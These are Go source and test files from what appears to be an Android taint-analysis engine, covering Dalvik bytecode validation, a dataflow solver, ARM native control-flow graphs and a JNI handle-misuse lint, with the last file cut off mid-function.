		t.Fatalf("wild branch not rejected: %v", c.Validate())
	}
}

func TestValidateRejectsEmptyBody(t *testing.T) {
	c := buildValid(t)
	m, _ := c.Method("ok")
	m.Insns = nil
	if f, ok := fault.Of(c.Validate()); !ok || f.Kind != fault.MalformedDex {
		t.Fatal("empty body not rejected")
	}
}

func TestValidateRejectsUnreachableCode(t *testing.T) {
	cb := NewClass("Lcom/test/U;")
	cb.Method("dead", "V", AccStatic, 1).
		Goto("out").
		Const(0, 7). // skipped by the goto, no branch lands here
		Label("out").
		ReturnVoid().
		Done()
	f, ok := fault.Of(cb.Build().Validate())
	if !ok || f.Kind != fault.MalformedDex {
		t.Fatalf("unreachable code not rejected: %v", f)
	}
	if want := "unreachable code at pc 1"; !strings.Contains(f.Detail, want) {
		t.Errorf("detail = %q, want %q", f.Detail, want)
	}
}

func TestValidateRejectsOrphanMoveResult(t *testing.T) {
	cb := NewClass("Lcom/test/MR;")
	cb.Method("orphan", "I", AccStatic, 1).
		Const(0, 1).
		MoveResult(0). // no invoke preceding it
		Return(0).
		Done()
	if f, ok := fault.Of(cb.Build().Validate()); !ok || f.Kind != fault.MalformedDex {
		t.Fatalf("orphan move-result not rejected: %v", f)
	}
}

func TestValidateRejectsBranchIntoMoveResult(t *testing.T) {
	cb := NewClass("Lcom/test/BR;")
	cb.Method("mid", "I", AccStatic, 1).
		Const(0, 1).
		IfZ(0, Eq, "mid").
		InvokeStatic("Lcom/test/BR;", "mid", "I").
		Label("mid"). // branch target lands on the move-result
		MoveResult(0).
		Return(0).
		Done()
	f, ok := fault.Of(cb.Build().Validate())
	if !ok || f.Kind != fault.MalformedDex {
		t.Fatalf("branch into move-result not rejected: %v", f)
	}
	if want := "lands mid-sequence"; !strings.Contains(f.Detail, want) {
		t.Errorf("detail = %q, want %q", f.Detail, want)
	}
}

func TestValidateRejectsStrayMoveException(t *testing.T) {
	cb := NewClass("Lcom/test/ME;")
	cb.Method("stray", "V", AccStatic, 1).
		MoveException(0). // pc 0 is not a registered handler
		ReturnVoid().
		Done()
	if f, ok := fault.Of(cb.Build().Validate()); !ok || f.Kind != fault.MalformedDex {
		t.Fatalf("stray move-exception not rejected: %v", f)
	}
}

func TestValidateAcceptsHandlerAndMoveResult(t *testing.T) {
	cb := NewClass("Lcom/test/OK;")
	cb.Method("callee", "I", AccStatic, 1).
		Const(0, 3).
		Return(0).
		Done()
	cb.Method("go", "I", AccStatic, 2).
		Label("tryStart").
		InvokeStatic("Lcom/test/OK;", "callee", "I").
		MoveResult(0).
		Label("tryEnd").
		Return(0).
		Label("catch").
		MoveException(1).
		Const(0, -1).
		Return(0).
		Try("tryStart", "tryEnd", "catch", "Ljava/lang/Throwable;").
		Done()
	if err := cb.Build().Validate(); err != nil {
		t.Fatalf("well-formed try/move-result rejected: %v", err)
	}
}

func TestValidateSkipsNative(t *testing.T) {
	cb := NewClass("Lcom/test/N;")
	cb.NativeMethod("nat", "V", AccStatic, 0)
	if err := cb.Build().Validate(); err != nil {
		t.Fatalf("native method should be skipped: %v", err)
	}
}
