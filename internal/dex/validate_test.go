package dex

import (
	"testing"

	"repro/internal/fault"
)

func buildValid(t *testing.T) *Class {
	t.Helper()
	cb := NewClass("Lcom/test/V;")
	cb.Method("ok", "V", AccStatic, 1).
		ConstString(0, "x").
		ReturnVoid().
		Done()
	return cb.Build()
}

func TestValidateAcceptsWellFormed(t *testing.T) {
	if err := buildValid(t).Validate(); err != nil {
		t.Fatalf("valid class rejected: %v", err)
	}
}

func TestValidateRejectsTruncatedBody(t *testing.T) {
	c := buildValid(t)
	m, _ := c.Method("ok")
	m.Insns = m.Insns[:len(m.Insns)-1] // drop the trailing return
	err := c.Validate()
	f, ok := fault.Of(err)
	if !ok || f.Kind != fault.MalformedDex {
		t.Fatalf("err = %v, want malformed-dex fault", err)
	}
	if f.Method != "Lcom/test/V;.ok" {
		t.Errorf("fault method = %q", f.Method)
	}
}

func TestValidateRejectsWildBranch(t *testing.T) {
	c := buildValid(t)
	m, _ := c.Method("ok")
	m.Insns = append(m.Insns, Insn{Op: Goto, Tgt: 99})
	if f, ok := fault.Of(c.Validate()); !ok || f.Kind != fault.MalformedDex {
		t.Fatalf("wild branch not rejected: %v", c.Validate())
	}
}

func TestValidateRejectsEmptyBody(t *testing.T) {
	c := buildValid(t)
	m, _ := c.Method("ok")
	m.Insns = nil
	if f, ok := fault.Of(c.Validate()); !ok || f.Kind != fault.MalformedDex {
		t.Fatal("empty body not rejected")
	}
}

func TestValidateSkipsNative(t *testing.T) {
	cb := NewClass("Lcom/test/N;")
	cb.NativeMethod("nat", "V", AccStatic, 0)
	if err := cb.Build().Validate(); err != nil {
		t.Fatalf("native method should be skipped: %v", err)
	}
}
