package static

import "testing"

// lineGraph is 0 -> 1 -> 2 -> 3 with a back edge 3 -> 1.
type testGraph struct {
	succs [][]int
	preds [][]int
}

func (g *testGraph) NumNodes() int     { return len(g.succs) }
func (g *testGraph) Succs(n int) []int { return g.succs[n] }
func (g *testGraph) Preds(n int) []int { return g.preds[n] }

func newTestGraph(n int, edges [][2]int) *testGraph {
	g := &testGraph{succs: make([][]int, n), preds: make([][]int, n)}
	for _, e := range edges {
		g.succs[e[0]] = append(g.succs[e[0]], e[1])
		g.preds[e[1]] = append(g.preds[e[1]], e[0])
	}
	return g
}

func TestBitSet(t *testing.T) {
	b := NewBitSet(130)
	if b.Any() {
		t.Fatal("fresh bitset should be empty")
	}
	if !b.Set(0) || !b.Set(64) || !b.Set(129) {
		t.Fatal("first Set should report change")
	}
	if b.Set(64) {
		t.Fatal("second Set should not report change")
	}
	if b.Count() != 3 {
		t.Fatalf("Count = %d, want 3", b.Count())
	}
	c := b.Copy()
	c.Clear(64)
	if !b.Get(64) || c.Get(64) {
		t.Fatal("Copy must not alias")
	}
}

func TestSolveForwardMay(t *testing.T) {
	// Gen bit 0 at node 0; the fact must reach every node on the chain and
	// survive the loop 3 -> 1.
	g := newTestGraph(4, [][2]int{{0, 1}, {1, 2}, {2, 3}, {3, 1}})
	sol := Solve(g, Problem{
		Dir: Forward, Join: May, Bits: 1,
		Boundary: func(n int) BitSet {
			b := NewBitSet(1)
			if n == 0 {
				b.Set(0)
			}
			return b
		},
		Transfer: func(n int, in BitSet) BitSet { return in },
	})
	for n := 0; n < 4; n++ {
		if !sol[n].Get(0) {
			t.Fatalf("node %d should have the fact", n)
		}
	}
}

func TestSolveBackwardMay(t *testing.T) {
	// Fact generated at the leaf must flow to all ancestors, not descendants.
	//   0 -> 1 -> 3(gen),  0 -> 2
	g := newTestGraph(4, [][2]int{{0, 1}, {0, 2}, {1, 3}})
	sol := Solve(g, Problem{
		Dir: Backward, Join: May, Bits: 1,
		Boundary: func(n int) BitSet {
			b := NewBitSet(1)
			if n == 3 {
				b.Set(0)
			}
			return b
		},
		Transfer: func(n int, in BitSet) BitSet { return in },
	})
	for _, n := range []int{0, 1, 3} {
		if !sol[n].Get(0) {
			t.Fatalf("node %d should see the leaf fact", n)
		}
	}
	if sol[2].Get(0) {
		t.Fatal("node 2 is not an ancestor of the gen node")
	}
}

func TestSolveForwardMust(t *testing.T) {
	// Diamond: 0 -> {1,2} -> 3. Node 1 gens the fact, node 2 does not; a
	// must (intersection) analysis cannot claim it at the join.
	g := newTestGraph(4, [][2]int{{0, 1}, {0, 2}, {1, 3}, {2, 3}})
	gen := func(n int, in BitSet) BitSet {
		out := in.Copy()
		if n == 1 {
			out.Set(0)
		}
		if n == 0 {
			// Entry kills everything: the boundary for a must problem.
			out = NewBitSet(1)
		}
		return out
	}
	sol := Solve(g, Problem{
		Dir: Forward, Join: Must, Bits: 1,
		Boundary: func(n int) BitSet { return NewBitSet(1) },
		Transfer: gen,
	})
	if sol[3].Get(0) {
		t.Fatal("must-join at the diamond exit should drop the one-sided fact")
	}

	// Same graph, but both arms gen: the fact must survive the must-join.
	gen2 := func(n int, in BitSet) BitSet {
		out := in.Copy()
		if n == 1 || n == 2 {
			out.Set(0)
		}
		if n == 0 {
			out = NewBitSet(1)
		}
		return out
	}
	sol = Solve(g, Problem{
		Dir: Forward, Join: Must, Bits: 1,
		Boundary: func(n int) BitSet { return NewBitSet(1) },
		Transfer: gen2,
	})
	if !sol[3].Get(0) {
		t.Fatal("fact available on both arms must survive the must-join")
	}
}

func TestReachable(t *testing.T) {
	g := newTestGraph(5, [][2]int{{0, 1}, {1, 2}, {3, 4}})
	r := Reachable(g, []int{0})
	for n, want := range []bool{true, true, true, false, false} {
		if r.Get(n) != want {
			t.Fatalf("node %d reachable = %v, want %v", n, r.Get(n), want)
		}
	}
}
