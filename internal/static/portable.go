package static

import (
	"sort"

	"repro/internal/fault"
)

// Portable is the serializable form of a Result for the content-addressed
// artifact store. Pointer-keyed pin sets dehydrate to their name-based forms
// (the same forms ReApply already uses for snapshot-restored Systems), maps
// to sorted slices, and lint faults to fault.Portable — so a rehydrated
// Result applies pins, cross-validates flow logs, and renders summaries
// identically to the original.
type Portable struct {
	Methods       int  `json:"methods"`
	PinnedMethods int  `json:"pinned_methods"`
	NativeFuncs   int  `json:"native_funcs"`
	NativePages   int  `json:"native_pages"`
	PinnedPages   int  `json:"pinned_pages"`
	TaintFree     bool `json:"taint_free"`
	Unresolved    bool `json:"unresolved,omitempty"`

	Findings []*fault.Portable `json:"findings,omitempty"`

	Sources       []string `json:"sources,omitempty"`
	Sinks         []string `json:"sinks,omitempty"`
	Crossings     []string `json:"crossings,omitempty"`
	CrossingAddrs []uint32 `json:"crossing_addrs,omitempty"`
	NativeCallees []string `json:"native_callees,omitempty"`

	PinNames  []string `json:"pin_names,omitempty"`
	PinPages  []uint32 `json:"pin_pages,omitempty"`
	SeedNames []string `json:"seed_names,omitempty"`
}

func sortedKeys(m map[string]bool) []string {
	if len(m) == 0 {
		return nil
	}
	out := make([]string, 0, len(m))
	for k := range m {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}

// Portable dehydrates the result.
func (r *Result) Portable() *Portable {
	p := &Portable{
		Methods: r.Methods, PinnedMethods: r.PinnedMethods,
		NativeFuncs: r.NativeFuncs, NativePages: r.NativePages,
		PinnedPages: r.PinnedPages, TaintFree: r.TaintFree,
		Unresolved: r.Unresolved,
		Sources:    sortedKeys(r.Sources),
		Sinks:      sortedKeys(r.Sinks),
		Crossings:  sortedKeys(r.Crossings),
		NativeCallees: sortedKeys(r.NativeCallees),
		PinNames:   append([]string(nil), r.pinNames...),
		PinPages:   append([]uint32(nil), r.pinPages...),
		SeedNames:  append([]string(nil), r.seedNames...),
	}
	for addr := range r.CrossingAddrs {
		p.CrossingAddrs = append(p.CrossingAddrs, addr)
	}
	sort.Slice(p.CrossingAddrs, func(i, j int) bool { return p.CrossingAddrs[i] < p.CrossingAddrs[j] })
	for _, f := range r.Findings {
		p.Findings = append(p.Findings, f.Portable())
	}
	return p
}

// Rehydrate rebuilds a Result from its portable form. The pointer-keyed pin
// sets stay empty — Apply on a rehydrated Result falls back to the name-based
// ReApply path, which resolves pins against whatever System the caller
// installed the (digest-identical) app on.
func (p *Portable) Rehydrate() *Result {
	r := &Result{
		Methods: p.Methods, PinnedMethods: p.PinnedMethods,
		NativeFuncs: p.NativeFuncs, NativePages: p.NativePages,
		PinnedPages: p.PinnedPages, TaintFree: p.TaintFree,
		Unresolved: p.Unresolved,
		Sources:    make(map[string]bool, len(p.Sources)),
		Sinks:      make(map[string]bool, len(p.Sinks)),
		Crossings:  make(map[string]bool, len(p.Crossings)),
		CrossingAddrs: make(map[uint32]bool, len(p.CrossingAddrs)),
		NativeCallees: make(map[string]bool, len(p.NativeCallees)),
		pinNames:   append([]string(nil), p.PinNames...),
		pinPages:   append([]uint32(nil), p.PinPages...),
		seedNames:  append([]string(nil), p.SeedNames...),
		rehydrated: true,
	}
	for _, s := range p.Sources {
		r.Sources[s] = true
	}
	for _, s := range p.Sinks {
		r.Sinks[s] = true
	}
	for _, s := range p.Crossings {
		r.Crossings[s] = true
	}
	for _, a := range p.CrossingAddrs {
		r.CrossingAddrs[a] = true
	}
	for _, s := range p.NativeCallees {
		r.NativeCallees[s] = true
	}
	for _, f := range p.Findings {
		r.Findings = append(r.Findings, f.Fault())
	}
	return r
}
