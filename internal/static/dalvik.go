package static

import "repro/internal/dex"

// MethodCFG is the control-flow graph of one interpreted Dalvik method:
// nodes are instruction indices, edges are fall-through, branch, and
// exception-handler transfers. Any instruction inside a try range gets a may
// edge to the range's handler — the conservative over-approximation of which
// instructions can throw.
type MethodCFG struct {
	M     *dex.Method
	succs [][]int
	preds [][]int
}

// NewMethodCFG builds the CFG. It assumes the method passed dex.Validate
// (branch targets in range); out-of-range targets are dropped rather than
// crashing so the lint can still run over rejected classes.
func NewMethodCFG(m *dex.Method) *MethodCFG {
	n := len(m.Insns)
	g := &MethodCFG{M: m, succs: make([][]int, n), preds: make([][]int, n)}
	add := func(from, to int) {
		if to < 0 || to >= n {
			return
		}
		g.succs[from] = append(g.succs[from], to)
		g.preds[to] = append(g.preds[to], from)
	}
	for pc := 0; pc < n; pc++ {
		insn := &m.Insns[pc]
		switch insn.Op {
		case dex.Goto:
			add(pc, insn.Tgt)
		case dex.IfTest, dex.IfTestZ:
			add(pc, insn.Tgt)
			add(pc, pc+1)
		case dex.ReturnVoid, dex.Return, dex.ReturnWide:
		case dex.Throw:
			for _, t := range m.Tries {
				if pc >= t.Start && pc < t.End {
					add(pc, t.Handler)
				}
			}
		default:
			add(pc, pc+1)
			if mayThrow(insn.Op) {
				for _, t := range m.Tries {
					if pc >= t.Start && pc < t.End {
						add(pc, t.Handler)
					}
				}
			}
		}
	}
	return g
}

// mayThrow reports whether the operation can raise a Java exception (NPE,
// bounds, arithmetic, or anything thrown by a callee).
func mayThrow(op dex.Code) bool {
	switch op {
	case dex.InvokeVirtual, dex.InvokeDirect, dex.InvokeStatic,
		dex.Aget, dex.AgetWide, dex.Aput, dex.AputWide,
		dex.Iget, dex.IgetWide, dex.Iput, dex.IputWide,
		dex.ArrayLength, dex.NewArray, dex.NewInstance,
		dex.BinOp, dex.BinOpLit, dex.BinOpWide:
		return true
	}
	return false
}

// NumNodes implements Graph.
func (g *MethodCFG) NumNodes() int { return len(g.succs) }

// Succs implements Graph.
func (g *MethodCFG) Succs(n int) []int { return g.succs[n] }

// Preds implements Graph.
func (g *MethodCFG) Preds(n int) []int { return g.preds[n] }

// CallSite is one invoke instruction in an interpreted method.
type CallSite struct {
	PC   int
	Insn *dex.Insn
}

// CallSites lists the method's invoke instructions.
func (g *MethodCFG) CallSites() []CallSite {
	var out []CallSite
	for pc := range g.M.Insns {
		insn := &g.M.Insns[pc]
		switch insn.Op {
		case dex.InvokeVirtual, dex.InvokeDirect, dex.InvokeStatic:
			out = append(out, CallSite{PC: pc, Insn: insn})
		}
	}
	return out
}

// HeapReads reports whether the method reads object, array, or static-field
// state — the channels through which taint can enter a frame without flowing
// through arguments or return values.
func (g *MethodCFG) HeapReads() bool {
	for pc := range g.M.Insns {
		switch g.M.Insns[pc].Op {
		case dex.Aget, dex.AgetWide, dex.Iget, dex.IgetWide,
			dex.Sget, dex.SgetWide, dex.ArrayLength, dex.MoveException:
			return true
		}
	}
	return false
}

// HeapWrites reports whether the method stores into object, array, or
// static-field state.
func (g *MethodCFG) HeapWrites() bool {
	for pc := range g.M.Insns {
		switch g.M.Insns[pc].Op {
		case dex.Aput, dex.AputWide, dex.Iput, dex.IputWide,
			dex.Sput, dex.SputWide:
			return true
		}
	}
	return false
}
