package static

import (
	"testing"

	"repro/internal/arm"
)

// assembleFixture builds a tiny library with fake extern symbols and returns
// the program plus a resolver over those symbols.
func assembleFixture(t *testing.T, src string) (*arm.Program, func(uint32) (string, bool)) {
	t.Helper()
	extern := map[string]uint32{
		"GetStringUTFChars":     0x7f000010,
		"ReleaseStringUTFChars": 0x7f000020,
		"NewStringUTF":          0x7f000030,
		"strlen":                0x7f000040,
		"malloc":                0x7f000050,
		"write":                 0x7f000060,
	}
	prog, err := arm.Assemble(src, 0x40000000, extern)
	if err != nil {
		t.Fatalf("assemble: %v", err)
	}
	byAddr := make(map[uint32]string)
	for name, addr := range extern {
		byAddr[addr] = name
	}
	return prog, func(a uint32) (string, bool) {
		n, ok := byAddr[a]
		return n, ok
	}
}

func TestNativeCFGCallsAndReturns(t *testing.T) {
	prog, resolve := assembleFixture(t, `
entry:
	PUSH {R4, LR}
	BL strlen
	BL helper
	POP {R4, PC}

helper:
	MOV R0, #1
	BX LR
`)
	entry, err := prog.Label("entry")
	if err != nil {
		t.Fatal(err)
	}
	cfg := BuildNativeCFG(prog, map[uint32]string{entry: "entry"}, resolve)

	fn := cfg.Funcs[entry]
	if fn == nil {
		t.Fatal("entry function not discovered")
	}
	if fn.Unresolved || fn.BadDecode {
		t.Fatalf("entry should fully resolve: %+v", fn)
	}
	if len(fn.Calls) != 1 || fn.Calls[0] != "strlen" {
		t.Fatalf("entry Calls = %v, want [strlen]", fn.Calls)
	}
	if len(fn.LocalCalls) != 1 {
		t.Fatalf("entry LocalCalls = %v, want one helper entry", fn.LocalCalls)
	}
	helper := cfg.Funcs[fn.LocalCalls[0]]
	if helper == nil {
		t.Fatal("helper function not discovered from the BL edge")
	}
	// helper's BX LR must be classified as a return.
	found := false
	for _, a := range helper.Body {
		if cfg.Insns[a] != nil && cfg.Insns[a].Return {
			found = true
		}
	}
	if !found {
		t.Fatal("helper has no return instruction")
	}
}

func TestNativeCFGVeneerTailCall(t *testing.T) {
	// Extern B assembles to the MOVW/MOVT/BX IP veneer; the constant tracker
	// must classify it as an extern tail call, not an indirect transfer.
	prog, resolve := assembleFixture(t, `
entry:
	B strlen
`)
	entry, _ := prog.Label("entry")
	cfg := BuildNativeCFG(prog, map[uint32]string{entry: "entry"}, resolve)
	fn := cfg.Funcs[entry]
	if fn.Unresolved {
		t.Fatalf("veneer should resolve statically: %+v", fn)
	}
	if len(fn.Calls) != 1 || fn.Calls[0] != "strlen" {
		t.Fatalf("Calls = %v, want [strlen]", fn.Calls)
	}
	ret := false
	for _, a := range fn.Body {
		if cfg.Insns[a] != nil && cfg.Insns[a].CallName == "strlen" && cfg.Insns[a].Return {
			ret = true
		}
	}
	if !ret {
		t.Fatal("extern tail call should carry the Return mark")
	}
}

func TestNativeCFGConditionalBranch(t *testing.T) {
	prog, resolve := assembleFixture(t, `
entry:
	CMP R0, #0
	BEQ skip
	MOV R0, #1
skip:
	BX LR
`)
	entry, _ := prog.Label("entry")
	cfg := BuildNativeCFG(prog, map[uint32]string{entry: "entry"}, resolve)
	fn := cfg.Funcs[entry]
	if len(fn.Body) != 4 {
		t.Fatalf("body should contain all 4 instructions, got %d", len(fn.Body))
	}
	// The BEQ must have two successors: target and fall-through.
	beq := cfg.Insns[entry+4]
	if beq == nil || len(beq.Succs) != 2 {
		t.Fatalf("conditional branch successors = %+v, want 2", beq)
	}
}

func TestLintUnreleasedHandle(t *testing.T) {
	// Gets the chars, never releases: the pairing analysis must flag the
	// outstanding handle at return.
	prog, resolve := assembleFixture(t, `
entry:
	PUSH {R4, LR}
	BL GetStringUTFChars
	MOV R4, R0
	BL strlen
	POP {R4, PC}
`)
	entry, _ := prog.Label("entry")
	cfg := BuildNativeCFG(prog, map[uint32]string{entry: "Java_entry"}, resolve)
	findings := lintHandles(cfg, cfg.Funcs[entry])
	if len(findings) != 1 {
		t.Fatalf("findings = %v, want exactly the unreleased-handle one", findings)
	}
	if got := findings[0].Detail; got == "" || findings[0].Layer != "static" {
		t.Fatalf("finding shape wrong: %+v", findings[0])
	}
}

func TestLintReleasedHandleClean(t *testing.T) {
	// Proper Get/Release pairing: no findings.
	prog, resolve := assembleFixture(t, `
entry:
	PUSH {R4, R5, LR}
	MOV R4, R0
	MOV R5, R1
	BL GetStringUTFChars
	MOV R2, R0
	MOV R0, R4
	MOV R1, R5
	BL ReleaseStringUTFChars
	POP {R4, R5, PC}
`)
	entry, _ := prog.Label("entry")
	cfg := BuildNativeCFG(prog, map[uint32]string{entry: "Java_entry"}, resolve)
	if findings := lintHandles(cfg, cfg.Funcs[entry]); len(findings) != 0 {
		t.Fatalf("paired Get/Release should be clean, got %v", findings)
	}
}

func TestLintUseAfterRelease(t *testing.T) {
	// The handle is released, then passed to strlen: use-after-release.
	prog, resolve := assembleFixture(t, `
entry:
	PUSH {R4, R5, R6, LR}
	MOV R4, R0
	MOV R5, R1
	BL GetStringUTFChars
	MOV R6, R0
	MOV R2, R6
	MOV R0, R4
	MOV R1, R5
	BL ReleaseStringUTFChars
	MOV R0, R6
	BL strlen
	POP {R4, R5, R6, PC}
`)
	entry, _ := prog.Label("entry")
	cfg := BuildNativeCFG(prog, map[uint32]string{entry: "Java_entry"}, resolve)
	findings := lintHandles(cfg, cfg.Funcs[entry])
	uar := false
	for _, f := range findings {
		if f.Kind.String() == "jni-misuse" && f.Layer == "static" &&
			containsAll(f.Detail, "after release", "strlen") {
			uar = true
		}
	}
	if !uar {
		t.Fatalf("use-after-release not flagged; findings = %v", findings)
	}
}

func containsAll(s string, subs ...string) bool {
	for _, sub := range subs {
		if !contains(s, sub) {
			return false
		}
	}
	return true
}

func contains(s, sub string) bool {
	for i := 0; i+len(sub) <= len(s); i++ {
		if s[i:i+len(sub)] == sub {
			return true
		}
	}
	return false
}
