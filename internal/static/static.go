// Package static implements the whole-program pre-analysis that runs before
// the dynamic engine boots: unified control-flow graphs over Dalvik bytecode
// and ARM/Thumb native code, a generic worklist dataflow solver shared by
// both ISAs, a taint-reachability pass that pins methods and native pages
// which can never transitively touch a source, sink, or JNI crossing, and a
// static JNI lint over crossing sites.
//
// Pins are a pure precision optimisation: a pinned Dalvik method executes
// its clean translation variant without the per-frame gate probe, and a
// pinned native page's blocks skip the taint-liveness check. Soundness does
// not rest on the pin computation — the runtime keeps its fallbacks (pinned
// ARM blocks still honour pending gate-bail edges, pinned frames still
// honour translation epochs), so a wrong pin costs speed, never a missed
// flow.
package static

import (
	"fmt"
	"sort"
	"strings"

	"repro/internal/dex"
	"repro/internal/dvm"
	"repro/internal/fault"
)

// Level selects how much of the pre-analysis is applied to a run.
type Level int

const (
	// Off disables the pre-analysis entirely.
	Off Level = iota
	// LintOnly runs CFG construction and the JNI lint, reporting findings
	// without influencing execution.
	LintOnly
	// PinLevel additionally applies taint-reachability pins to the dynamic
	// engines.
	PinLevel
)

// ParseLevel maps the -static flag values.
func ParseLevel(s string) (Level, error) {
	switch s {
	case "off":
		return Off, nil
	case "lint":
		return LintOnly, nil
	case "pin":
		return PinLevel, nil
	}
	return Off, fmt.Errorf("static: unknown level %q (want off|lint|pin)", s)
}

func (l Level) String() string {
	switch l {
	case LintOnly:
		return "lint"
	case PinLevel:
		return "pin"
	}
	return "off"
}

// Result is the outcome of one pre-analysis over a booted (but not yet run)
// system: counts for reporting, the lint findings, the reach sets consumed
// by cross-validation, and the pin sets applied by Apply.
type Result struct {
	Methods       int // interpreted Dalvik methods
	PinnedMethods int // methods proven unable to touch taint
	NativeFuncs   int // native functions discovered by the CFG traversal
	NativePages   int // pages of loaded app native code
	PinnedPages   int // pages proven taint-free
	TaintFree     bool

	Findings []*fault.Fault // static JNI lint diagnostics

	// Reach sets for dynamic cross-validation: labels the flow log can emit.
	Sources       map[string]bool // reachable Java source methods (full names)
	Sinks         map[string]bool // reachable sink labels ("Network.send")
	Crossings     map[string]bool // reachable native-method simple names
	CrossingAddrs map[uint32]bool // reachable native-method entry addresses
	NativeCallees map[string]bool // extern callees reachable in native code

	// Unresolved means some reachable node had an indirect transfer the
	// analysis could not resolve; cross-validation of native events is
	// skipped (anything could run) but Java-side checks still hold.
	Unresolved bool

	pinMethods []*dex.Method
	// pinNames are the full names of pinMethods, the pointer-independent form
	// ReApply uses to re-seed pins on a System that re-installed the same dex.
	pinNames []string
	pinPages []uint32

	// seedMethods are the reachable native methods: the cross-ISA call graph
	// already proves these crossings can execute, so Apply seeds them into the
	// VM's trace-fusion layer and the first crossing fuses without waiting for
	// the heat threshold. seedNames is the ReApply form.
	seedMethods []*dex.Method
	seedNames   []string

	// rehydrated marks a Result rebuilt from its Portable form: the
	// pointer-keyed sets are gone, so Apply routes through ReApply.
	rehydrated bool
}

// Analyze runs CFG construction, the JNI lint, and the taint-reachability
// pass over the VM's registered classes and loaded libraries. entryClass and
// entryMethod name the app's entry point for the reachability sweep.
func Analyze(vm *dvm.VM, entryClass, entryMethod string) *Result {
	r := &Result{
		Sources:       make(map[string]bool),
		Sinks:         make(map[string]bool),
		Crossings:     make(map[string]bool),
		CrossingAddrs: make(map[uint32]bool),
		NativeCallees: make(map[string]bool),
	}

	var cfgs []*NativeCFG
	for _, lib := range vm.NativeLibs() {
		cfgs = append(cfgs, LibCFG(vm, lib))
	}

	r.Findings = Lint(vm, cfgs)

	g := buildCallGraph(vm, cfgs)
	var entry *dex.Method
	if c, ok := vm.Class(entryClass); ok {
		if m, ok := c.Method(entryMethod); ok {
			entry = m
		}
	}
	reach := analyzeReach(g, entry)
	r.TaintFree = reach.taintFree

	for i, n := range g.nodes {
		if n.fn != nil {
			r.NativeFuncs++
		}
		if n.m != nil && !n.m.IsNative() && n.m.Builtin == nil && len(n.m.Insns) > 0 {
			r.Methods++
		}
		if !reach.reachable.Get(i) {
			continue
		}
		if n.m != nil {
			if n.isSource {
				r.Sources[n.m.FullName()] = true
			}
			if n.isSink {
				r.Sinks[leakLabel(n.m)] = true
			}
			if n.m.IsNative() {
				r.Crossings[n.m.Name] = true
				r.CrossingAddrs[n.m.NativeAddr] = true
				r.seedMethods = append(r.seedMethods, n.m)
				r.seedNames = append(r.seedNames, n.m.FullName())
			}
		}
		if n.fn != nil {
			for _, callee := range n.fn.Calls {
				r.NativeCallees[callee] = true
			}
		}
		if n.unresolved {
			r.Unresolved = true
		}
	}

	for i, n := range g.nodes {
		if reach.pinnable(i) {
			r.pinMethods = append(r.pinMethods, n.m)
			r.PinnedMethods++
		}
	}
	sort.Slice(r.pinMethods, func(i, j int) bool {
		return r.pinMethods[i].FullName() < r.pinMethods[j].FullName()
	})
	for _, m := range r.pinMethods {
		r.pinNames = append(r.pinNames, m.FullName())
	}

	for _, lib := range vm.NativeLibs() {
		end := lib.Prog.Base + lib.Prog.Size()
		for pn := lib.Prog.Base >> 12; pn <= (end-1)>>12; pn++ {
			r.NativePages++
			if r.TaintFree {
				r.pinPages = append(r.pinPages, pn)
			}
		}
	}
	r.PinnedPages = len(r.pinPages)
	return r
}

// progContains reports whether addr lies inside the library image.
// LibCFG builds one library's NativeCFG, rooted at every bound native
// method whose implementation lives inside the library's program image.
// Summary synthesis reuses this to get the same CFG shape the lint and
// reachability passes see.
func LibCFG(vm *dvm.VM, lib dvm.LoadedLib) *NativeCFG {
	resolve := buildResolver(vm)
	entries := make(map[uint32]string)
	for _, name := range vm.Classes() {
		c, ok := vm.Class(name)
		if !ok {
			continue
		}
		for _, m := range c.Methods {
			if m.IsNative() && m.NativeAddr != 0 && progContains(lib, m.NativeAddr&^1) {
				entries[m.NativeAddr] = m.FullName()
			}
		}
	}
	return BuildNativeCFG(lib.Prog, entries, resolve)
}

func progContains(lib dvm.LoadedLib, addr uint32) bool {
	return addr >= lib.Prog.Base && addr < lib.Prog.Base+lib.Prog.Size()
}

// buildResolver inverts the VM's symbol tables (libc, JNI env trampolines,
// libdvm internals) into an address → name lookup for the CFG traversal.
func buildResolver(vm *dvm.VM) func(uint32) (string, bool) {
	byAddr := make(map[uint32]string)
	if vm.Libc != nil {
		for name, addr := range vm.Libc.Syms() {
			byAddr[addr&^1] = name
		}
	}
	for name, addr := range vm.JNISyms() {
		byAddr[addr&^1] = name
	}
	return func(addr uint32) (string, bool) {
		if name, ok := byAddr[addr&^1]; ok {
			return name, true
		}
		return vm.InternalName(addr &^ 1)
	}
}

// Apply seeds the dynamic engines with the pin sets: pinned methods run
// their clean translation variant, pinned pages skip the block-level gate.
// Pins are keyed by *dex.Method and page number on the target System, so a
// fresh System (degradation retry) must call Apply again.
func (r *Result) Apply(vm *dvm.VM) {
	if r.rehydrated {
		// Rebuilt from the artifact store: no pointer sets exist, and the
		// caller's System is a fresh install of a digest-identical app, which
		// is exactly the contract ReApply's name resolution covers.
		r.ReApply(vm)
		return
	}
	for _, m := range r.pinMethods {
		vm.PinClean(m)
	}
	for _, pn := range r.pinPages {
		vm.CPU.PinPage(pn)
	}
	for _, m := range r.seedMethods {
		vm.SeedFusion(m)
	}
}

// ReApply re-seeds the pin sets on a System that installed the same app
// again (identical dex digest, e.g. a snapshot-restored fork-server clone).
// Method pins are resolved by full name — the re-install built fresh
// *dex.Method values, so the pointer-keyed sets in r are useless — and page
// pins reapply directly, because an identical install at a restored nextLibBase
// lands native code on identical pages. Unresolvable names are skipped: a
// missing pin costs speed, never soundness.
func (r *Result) ReApply(vm *dvm.VM) {
	for _, full := range r.pinNames {
		if m := methodByFullName(vm, full); m != nil {
			vm.PinClean(m)
		}
	}
	for _, pn := range r.pinPages {
		vm.CPU.PinPage(pn)
	}
	for _, full := range r.seedNames {
		if m := methodByFullName(vm, full); m != nil {
			vm.SeedFusion(m)
		}
	}
}

// methodByFullName resolves "Lpkg/Cls;.method" on the VM's class table;
// unresolvable names return nil (a missing pin or seed costs speed, never
// soundness).
func methodByFullName(vm *dvm.VM, full string) *dex.Method {
	i := strings.Index(full, ";.")
	if i < 0 {
		return nil
	}
	c, ok := vm.Class(full[:i+1])
	if !ok {
		return nil
	}
	if m, ok := c.Method(full[i+2:]); ok {
		return m
	}
	return nil
}

// CrossValidate checks every flow-log event against the static reach sets
// and returns one message per violation: a dynamic event that static
// analysis claimed unreachable is a soundness bug in the pre-analysis.
func (r *Result) CrossValidate(lines []string) []string {
	var out []string
	violate := func(format string, args ...interface{}) {
